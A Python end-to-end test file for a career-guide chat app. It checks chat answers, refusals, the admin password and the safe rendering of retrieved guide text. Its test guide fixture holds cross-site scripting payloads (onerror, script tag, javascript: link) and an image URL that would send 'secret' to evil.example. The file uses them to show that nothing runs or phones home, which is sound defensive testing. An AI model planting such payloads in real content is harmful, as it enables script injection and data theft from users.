"""End-to-end tests: the real app in a subprocess, driven through Debian's chromium with Playwright.

One admin-enabled server serves the whole module; a second, short-lived one runs without an admin password.
Every page's requests are recorded, and any request to a host other than 127.0.0.1/localhost fails the test.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser_support import (
    LAST_ANSWER_ITEMS_JS,
    ROOT,
    UNSAFE_IN_CHAT_JS,
    WATCH_LENGTHS_JS,
    AppServer,
    BrowserPage,
    ask,
    choose,
    click_and_wait_status,
    launch_chromium,
    new_chat,
    open_page,
    running_app,
    screenshot,
)

ADMIN_PASSWORD = "browser-test-admin-Pw"
ML_GUIDE = "machine-learning-engineer.md"
PILOT_GUIDE = "test-pilot.md"
FIRST_QUESTION = "How long does it take to become a machine learning engineer?"

# A guide whose salary section carries HTML, script, image and javascript: payloads next to the facts it cites.
PILOT_TEXT = """---
title: Test Pilot Career Guide
role: Test Pilot
last_reviewed: 2026-11-23
---

# Test Pilot Career Guide

## What does a Test Pilot do?

A Test Pilot flies new and modified aircraft to check how they handle, and writes detailed reports for engineers.

## What is the salary of a Test Pilot?

The average annual salary of a Test Pilot is $98,765 <img src=x onerror=alert(1)> per year. Salary figures \
<script>alert(2)</script> vary by employer. See the salary chart ![x](http://evil.example/?q=secret) for the \
salary of a Test Pilot. Read the [click](javascript:alert(3)) salary report for a Test Pilot.
"""

_OPENED: list[BrowserPage] = []


# ---------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def work_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("browser")


@pytest.fixture(scope="module")
def knowledge_dir(work_dir: Path) -> Path:
    """A copy of knowledge/ plus the Test Pilot guide with the injection payloads, written before the app starts."""
    folder = work_dir / "knowledge"
    shutil.copytree(ROOT / "knowledge", folder)
    (folder / PILOT_GUIDE).write_text(PILOT_TEXT, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def admin_server(work_dir: Path, knowledge_dir: Path) -> Iterator[AppServer]:
    with running_app(knowledge_dir, work_dir / "index", work_dir, admin_password=ADMIN_PASSWORD) as server:
        yield server


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = launch_chromium(playwright)
        try:
            yield chromium
        finally:
            chromium.close()


def _open(browser: Any, server: AppServer) -> BrowserPage:
    page = open_page(browser, server.url)
    _OPENED.append(page)
    return page


@pytest.fixture(scope="module")
def chat(browser: Any, admin_server: AppServer) -> Iterator[BrowserPage]:
    """One chat page shared by the conversation tests (the follow-up needs the first answer)."""
    page = _open(browser, admin_server)
    yield page
    page.close()


@pytest.fixture
def fresh_page(browser: Any, admin_server: AppServer) -> Iterator[BrowserPage]:
    page = _open(browser, admin_server)
    yield page
    page.close()


@pytest.fixture(autouse=True)
def stays_local() -> Iterator[None]:
    """Fail the test if any page made a request to a host other than 127.0.0.1/localhost while it ran."""
    marks = {id(p): len(p.recorder.requests) for p in _OPENED}
    yield
    foreign = [url for p in _OPENED for url in p.recorder.foreign(marks.get(id(p), 0))]
    assert not foreign, f"the page made requests off this machine: {foreign}"


# ---------------------------------------------------------------- helpers


def _headings(folder: Path) -> set[str]:
    """Every section heading (## and ###) of the Markdown guides in a folder."""
    found: set[str] = set()
    for path in folder.glob("*.md"):
        found |= {m.group(1).strip() for m in re.finditer(r"^#{2,3}\s+(.+)$", path.read_text("utf-8"), re.M)}
    return found


def _fingerprint(folder: Path) -> dict[str, str]:
    """Name -> sha256 of every file (hidden ones too) in the knowledge folder."""
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _admin_tab(page: Any) -> None:
    page.get_by_role("tab", name="Guides (admin)").click()
    page.locator("#admin-status").wait_for(state="attached")
    page.locator("#upload-btn").wait_for(state="visible")


def _chat_tab(page: Any) -> None:
    page.get_by_role("tab", name="Chat").click()
    page.locator("#question textarea").wait_for(state="visible")


def _set_upload(page: Any, path: Path) -> None:
    """Put a file into the upload component (clearing a previous one first) and wait until it is listed."""
    clear = page.locator('#upload-file button[aria-label="Clear"]')
    if clear.count():
        clear.first.click()
    page.locator('#upload-file input[type="file"]').set_input_files(str(path))
    page.locator("#upload-file").get_by_text(path.stem).first.wait_for(state="visible")


def _expand_last_sources(page: Any) -> Any:
    """Open the last answer's collapsible Sources panel; returns the panel."""
    title = page.locator("#chat .thought .title").last
    title.wait_for(state="visible")
    assert title.inner_text().strip().startswith("Sources"), title.inner_text()
    title.click()
    return page.locator("#chat .thought").last


# ---------------------------------------------------------------- chat


@pytest.mark.browser
def test_answer_streams_and_cites_its_source(chat: BrowserPage) -> None:
    page = chat.page
    page.evaluate(WATCH_LENGTHS_JS)
    answer = ask(page, FIRST_QUESTION)

    lengths: list[int] = page.evaluate("window.__lengths")
    assert lengths, "the answer bubble never changed"
    final = max(lengths)
    growing = sorted({n for n in lengths if 0 < n < final})
    assert len(growing) >= 2, f"the answer did not stream: text lengths seen {lengths}"
    assert "four years" in answer

    panel = _expand_last_sources(page)
    section = panel.get_by_text("How long does it take to become a Machine Learning Engineer?")
    section.first.wait_for(state="visible")
    assert ML_GUIDE in panel.inner_text()


@pytest.mark.browser
def test_follow_up_uses_the_conversation(chat: BrowserPage) -> None:
    page = chat.page
    if "four years" not in page.locator("#chat").inner_text():  # run alone: ask the first question here
        ask(page, FIRST_QUESTION)
    answer = ask(page, "And what does it pay?")
    assert "$112,430" in answer
    screenshot(page, "chat.png")


@pytest.mark.browser
def test_off_topic_question_is_refused_with_topics(chat: BrowserPage, knowledge_dir: Path) -> None:
    page = chat.page
    new_chat(page)
    answer = ask(page, "How do I become a dentist?")
    assert "don't cover" in answer or "don’t cover" in answer, answer
    items: list[str] = page.evaluate(LAST_ANSWER_ITEMS_JS)
    headings = _headings(knowledge_dir)
    suggested = [item for item in items if item in headings]
    assert len(suggested) >= 2, f"suggested topics {items} are not guide headings {sorted(headings)}"
    assert not page.locator("#chat .thought").count(), "a refusal must not cite sources"
    screenshot(page, "refusal.png")


@pytest.mark.browser
def test_a_conversation_greeting_role_switch_comparison_and_refusal(fresh_page: BrowserPage) -> None:
    page = fresh_page.page
    greeting = ask(page, "hi")
    # The chat's only unlabelled icon button is Gradio's "share" (to Hugging Face): it must not be there.
    unlabelled = "[...document.querySelectorAll('#chat button.icon-button')].filter(b => !b.getAttribute('aria-label'))"
    assert page.evaluate(f"() => {unlabelled}.length") == 0
    assert greeting.startswith("Hello!") and "I have guides for: Machine Learning Engineer, Test Pilot." in greeting
    screenshot(page, "greeting.png")

    ask(page, "What is the salary of a machine learning engineer?")
    switched = ask(page, "and for test pilots?")  # names only a new role: keeps the topic, pay
    assert "$98,765" in switched and "$112,430" not in switched, switched
    screenshot(page, "role-switch.png")

    new_chat(page)
    ask(page, "Who earns more, a test pilot or a machine learning engineer?")
    grid = page.locator("#chat table").last
    grid.wait_for(state="visible")
    rows = grid.locator("tbody tr").all_inner_texts()
    assert len(rows) == 2 and any("Test Pilot" in r and "$98,765" in r and "[" in r for r in rows), rows
    assert any("Machine Learning Engineer" in r and "$" in r for r in rows), rows
    screenshot(page, "comparison.png")

    refusal = ask(page, "How do I become a dentist?")
    assert "don't cover the role Dentist" in refusal.replace("’", "'"), refusal
    assert "I have guides for: Machine Learning Engineer, Test Pilot." in refusal
    screenshot(page, "refusal-roles.png")


@pytest.mark.browser
def test_a_chat_survives_a_reload_per_browser_until_new_chat(browser: Any, admin_server: AppServer) -> None:
    one, two = _open(browser, admin_server), _open(browser, admin_server)  # two browsers: separate storage
    try:
        ask(one.page, "What does a Test Pilot do?")
        ask(two.page, "What does a machine learning engineer do?")
        one.page.reload()
        one.page.wait_for_selector("#question textarea", state="visible")
        one.page.locator("#chat").get_by_text("What does a Test Pilot do?").first.wait_for(state="visible")
        assert "machine learning engineer do" not in one.page.locator("#chat").inner_text()
        assert "Test Pilot do?" not in two.page.locator("#chat").inner_text()
        # After the reload the conversation's role is still known: the follow-up is about test pilots.
        assert "$98,765" in ask(one.page, "And what does it pay?")
        paid = ask(two.page, "And what does it pay?")
        assert "$98,765" not in paid and "$" in paid, paid
        screenshot(one.page, "chat-after-reload.png")
        new_chat(one.page)
        one.page.reload()
        one.page.wait_for_selector("#question textarea", state="visible")
        one.page.wait_for_timeout(1500)  # the kept chat, were there one, is restored on load
        assert one.page.locator('#chat [data-testid="user"]').count() == 0
    finally:
        one.close()
        two.close()


@pytest.mark.browser
def test_the_career_snapshot_card_with_its_charts(fresh_page: BrowserPage) -> None:
    page = fresh_page.page
    ask(page, "What does a machine learning engineer do?")
    page.get_by_role("tab", name="Careers").click()  # opens on the role the chat is about
    card = page.locator("#career-card")
    card.get_by_text("$112,430").first.wait_for(state="visible")
    assert page.locator("#card-role input").input_value() == "Machine Learning Engineer"
    text = card.inner_text()
    for figure in ("$54.05", "9.7%", "2022 to 2032", "33,500", "about four years", "BLS reports"):
        assert figure in text, text
    assert "entry pay: not in the guide" in text
    for chart in ("#pay-chart", "#path-chart"):  # the pay bar and the path's three steps are drawn
        page.locator(f"{chart} canvas, {chart} svg").first.wait_for(state="visible")
    screenshot(page, "snapshot-card.png")
    choose(page, "#card-role", "Test Pilot")
    page.locator("#card-btn").click()
    card.get_by_text("$98,765").first.wait_for(state="visible")
    assert "time to get in: not in the guide" in card.inner_text()  # nothing borrowed from the other guide

    picker = page.locator("#compare-roles input")
    for role in ("Machine Learning Engineer", "Test Pilot"):  # type a role, Enter picks it (the list filters)
        picker.fill(role)
        picker.press("Enter")
        page.locator("#compare-roles").get_by_text(role, exact=True).first.wait_for(state="visible")
    page.keyboard.press("Escape")
    page.locator("#compare-btn").click()
    grid = page.locator("#role-comparison table")
    grid.wait_for(state="visible")
    rows = grid.locator("tbody tr").all_inner_texts()
    pay = next(r for r in rows if r.startswith("annual pay"))
    assert "$112,430" in pay and "$98,765" in pay and "[" in pay, pay
    assert any(r.startswith("time to get in") and "not in the guide" in r for r in rows), rows
    screenshot(page, "role-comparison.png")


@pytest.mark.browser
def test_the_admin_gap_report_after_refused_questions(fresh_page: BrowserPage) -> None:
    page = fresh_page.page
    for question in ("How do I become a dentist?", "What does a dentist earn?", "What's the weather in Paris?"):
        ask(page, question)
    assert "kept on this server" in page.locator("#chat-kept-note").inner_text()  # the page says so
    _admin_tab(page)
    page.locator("#gaps-btn").click()
    page.locator("#gap-report").get_by_text("Wrong admin password").first.wait_for(state="visible")
    page.locator("#admin-password input").press_sequentially(ADMIN_PASSWORD)
    page.locator("#gaps-btn").click()
    report = page.locator("#gap-report")
    report.get_by_text("dentist", exact=False).first.wait_for(state="visible")
    assert "refused (no_guide)" in report.inner_text(), report.inner_text()
    page.locator("#gap-csv").get_by_text(".csv").first.wait_for(state="visible")
    screenshot(page, "gap-report.png")


@pytest.mark.browser
def test_guide_markup_cannot_run_or_phone_home(fresh_page: BrowserPage) -> None:
    page = fresh_page.page
    answer = ask(page, "What is the salary of a Test Pilot?")
    assert "$98,765" in answer, answer
    panel = _expand_last_sources(page)  # render the quoted snippet too
    panel.get_by_text(PILOT_GUIDE).first.wait_for(state="visible")

    assert fresh_page.recorder.dialogs == [], f"a dialog fired: {fresh_page.recorder.dialogs}"
    assert page.evaluate(UNSAFE_IN_CHAT_JS) == []
    assert fresh_page.recorder.foreign() == []
    screenshot(page, "injection.png")


# ---------------------------------------------------------------- admin


@pytest.mark.browser
def test_admin_replaces_a_guide_and_reingests(fresh_page: BrowserPage, work_dir: Path) -> None:
    page = fresh_page.page
    edited = work_dir / "edited" / ML_GUIDE
    edited.parent.mkdir(exist_ok=True)
    original = (ROOT / "knowledge" / ML_GUIDE).read_text(encoding="utf-8")
    assert "$112,430" in original
    edited.write_text(original.replace("$112,430", "$150,000"), encoding="utf-8")

    _admin_tab(page)
    page.locator("#admin-password input").press_sequentially(ADMIN_PASSWORD)
    _set_upload(page, edited)
    choose(page, "#replace-guide", ML_GUIDE)
    status = click_and_wait_status(page, "#upload-btn")
    assert f"Saved as {ML_GUIDE}" in status, status

    status = click_and_wait_status(page, "#preview-btn")
    assert "Preview (nothing written)" in status and "Dry run" in status, status
    assert "updated 1" in status, status

    status = click_and_wait_status(page, "#ingest-btn")
    assert "Re-ingest finished" in status, status
    page.locator("#guides-table").get_by_text(ML_GUIDE, exact=True).filter(visible=True).first.wait_for()
    page.locator("#chunks-chart svg").first.wait_for(state="visible")
    screenshot(page, "admin.png")

    _chat_tab(page)
    new_chat(page)
    answer = ask(page, "What is the average salary of a machine learning engineer?")
    assert "$150,000" in answer, answer
    assert "$112,430" not in page.locator("#chat").inner_text()

    # Put the shipped guide back so the module's server is as it started.
    _admin_tab(page)
    _set_upload(page, ROOT / "knowledge" / ML_GUIDE)
    choose(page, "#replace-guide", ML_GUIDE)
    assert f"Saved as {ML_GUIDE}" in click_and_wait_status(page, "#upload-btn")
    assert "Re-ingest finished" in click_and_wait_status(page, "#ingest-btn")


@pytest.mark.browser
def test_admin_corrects_a_guide_role(fresh_page: BrowserPage, knowledge_dir: Path) -> None:
    page = fresh_page.page
    guide = knowledge_dir / PILOT_GUIDE

    def set_role(role: str) -> str:
        choose(page, "#role-guide", PILOT_GUIDE)
        page.locator("#role-name textarea").fill(role)
        return click_and_wait_status(page, "#role-btn")

    _admin_tab(page)
    assert "Wrong admin password" in set_role("Flight Test Engineer")
    assert "role: Test Pilot" in guide.read_text(encoding="utf-8")
    page.locator("#admin-password input").press_sequentially(ADMIN_PASSWORD)
    status = set_role("Flight Test Engineer")
    assert "set to Flight Test Engineer" in status and "Re-ingest finished" in status, status
    text = guide.read_text(encoding="utf-8")
    assert "role: Flight Test Engineer" in text and "title: Test Pilot Career Guide" in text
    assert text.split("\n---", 1)[1] == PILOT_TEXT.split("\n---", 1)[1]  # the guide's text is untouched
    page.locator("#guides-table").get_by_text("Flight Test Engineer", exact=True).filter(visible=True).first.wait_for()
    screenshot(page, "admin-role.png")

    _chat_tab(page)
    new_chat(page)
    answer = ask(page, "What does a flight test engineer do?")
    assert "flies new and modified aircraft" in answer, answer

    # Put the role back so the module's server is as it started.
    _admin_tab(page)
    assert "set to Test Pilot" in set_role("Test Pilot")
    assert "role: Test Pilot" in guide.read_text(encoding="utf-8")


@pytest.mark.browser
def test_admin_actions_need_the_password(fresh_page: BrowserPage, knowledge_dir: Path, work_dir: Path) -> None:
    page = fresh_page.page
    intruder = work_dir / "intruder" / "intruder.md"
    intruder.parent.mkdir(exist_ok=True)
    intruder.write_text("# Intruder Guide\n\n## What is this?\n\nIt should never be stored.\n", encoding="utf-8")
    before = _fingerprint(knowledge_dir)

    _admin_tab(page)
    assert not page.locator("#admin-readonly").count()
    _set_upload(page, intruder)  # empty password
    assert "Wrong admin password" in click_and_wait_status(page, "#upload-btn")

    page.locator("#admin-password input").press_sequentially("not-the-password")
    choose(page, "#replace-guide", ML_GUIDE)
    assert "Wrong admin password" in click_and_wait_status(page, "#upload-btn")
    choose(page, "#delete-guide", ML_GUIDE)
    assert "Wrong admin password" in click_and_wait_status(page, "#delete-btn")
    assert "Wrong admin password" in click_and_wait_status(page, "#preview-btn")
    assert "Wrong admin password" in click_and_wait_status(page, "#ingest-btn")

    assert _fingerprint(knowledge_dir) == before
    table = page.locator("#guides-table").inner_text()
    assert ML_GUIDE in table and PILOT_GUIDE in table


@pytest.mark.browser
def test_admin_is_read_only_without_a_configured_password(browser: Any, tmp_path: Path) -> None:
    knowledge = tmp_path / "knowledge"
    shutil.copytree(ROOT / "knowledge", knowledge)
    upload = tmp_path / "upload" / "intruder.md"
    upload.parent.mkdir()
    upload.write_text("# Intruder Guide\n\n## What is this?\n\nIt should never be stored.\n", encoding="utf-8")
    before = _fingerprint(knowledge)

    with running_app(knowledge, tmp_path / "index", tmp_path, admin_password="") as server:
        opened = _open(browser, server)
        try:
            page = opened.page
            _admin_tab(page)
            readonly = page.locator("#admin-readonly")
            readonly.wait_for(state="visible")
            assert "Read-only" in readonly.inner_text()
            page.locator("#admin-password input").press_sequentially("anything")
            _set_upload(page, upload)
            status = click_and_wait_status(page, "#upload-btn")
            assert "Admin actions are disabled" in status, status
            assert "Admin actions are disabled" in click_and_wait_status(page, "#ingest-btn")
        finally:
            opened.close()
    assert _fingerprint(knowledge) == before


@pytest.mark.browser
def test_admin_endpoints_are_not_in_the_public_api(admin_server: AppServer) -> None:
    with urllib.request.urlopen(f"{admin_server.url}gradio_api/info", timeout=10) as response:
        info = json.load(response)
    names = [*info.get("named_endpoints", {}), *map(str, info.get("unnamed_endpoints", {}))]
    assert "/chat" in names
    admin_words = ("upload", "delete", "ingest", "preview", "guide", "password", "run")
    leaked = [n for n in names if any(word in n.lower() for word in admin_words)]
    assert leaked == [], f"admin endpoints in the public API: {leaked}"
